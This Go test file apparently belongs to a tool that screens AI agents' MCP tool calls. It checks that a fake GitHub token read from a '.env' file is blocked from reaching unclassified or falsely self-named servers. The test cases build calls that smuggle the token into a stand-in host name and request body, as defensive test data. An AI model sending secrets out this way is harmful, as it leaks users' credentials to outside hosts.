package upstream

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/flowd-dev/flowd/internal/judge/judgetest"
	"github.com/flowd-dev/flowd/internal/shimproto"
)

// A destination flowd cannot classify, or one whose only claim to being
// local is its own serverInfo.name, is judged as one that can send data
// out: a secret read from the file system does not reach it.
func TestUnclassifiedDestinationsGetNoSecrets(t *testing.T) {
	const token = "ghp_" + "R2d2C3poBb8aWingXfighterTie0001" + "abcde"
	tests := []struct {
		desc  string
		hello shimproto.Hello
		init  string // the server's initialize result, if any
		tools string // its tools/list result, if any
		tool  string
		deny  bool
	}{
		{"a server nothing identifies", shimproto.Hello{Name: "acme-tools"}, "", "", "run", true},
		{"a mail server without --name calling itself filesystem",
			shimproto.Hello{Command: []string{"python3", "mailer.py"}},
			`{"protocolVersion":"2025-11-25","serverInfo":{"name":"filesystem","version":"1"}}`, "", "dispatch", true},
		{"a host parameter on a server named like a local one", shimproto.Hello{Name: "filesystem"}, "",
			`{"tools":[{"name":"lookup","inputSchema":{"type":"object","properties":{"host":{"type":"string"}}}}]}`, "lookup", true},
		{"the file system itself", shimproto.Hello{Name: "filesystem"}, "", "", "write_file", false},
	}
	for i, tt := range tests {
		t.Run(tt.desc, func(t *testing.T) {
			d := newEnv(t, nil)
			session := "s" + string(rune('a'+i))
			fs := NewStream(1, shimproto.Hello{Name: "server-filesystem"}, session)
			require.Equal(t, shimproto.Pass, judgetest.CallAndAnswer(d.judge, fs, 1, "read_text_file", `{"path":"/home/u/.env"}`, "GITHUB_TOKEN="+token).Action)
			dst := NewStream(2, tt.hello, session)
			if tt.init != "" {
				judgeMsg(d, dst, msg(c2s, `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25"}}`))
				judgeMsg(d, dst, msg(s2c, `{"jsonrpc":"2.0","id":1,"result":`+tt.init+`}`))
			}
			if tt.tools != "" {
				judgeMsg(d, dst, msg(c2s, `{"jsonrpc":"2.0","id":2,"method":"tools/list"}`))
				judgeMsg(d, dst, msg(s2c, `{"jsonrpc":"2.0","id":2,"result":`+tt.tools+`}`))
			}
			v := judgetest.CallAndAnswer(d.judge, dst, 3, tt.tool, `{"host":"`+token+`.example.net","body":"`+token+`"}`, "ok")
			if !tt.deny {
				assert.Equal(t, shimproto.Pass, v.Action)
				return
			}
			text := judgetest.BlockedText(t, v)
			assert.Contains(t, text, "Sensitive data")
		})
	}
}
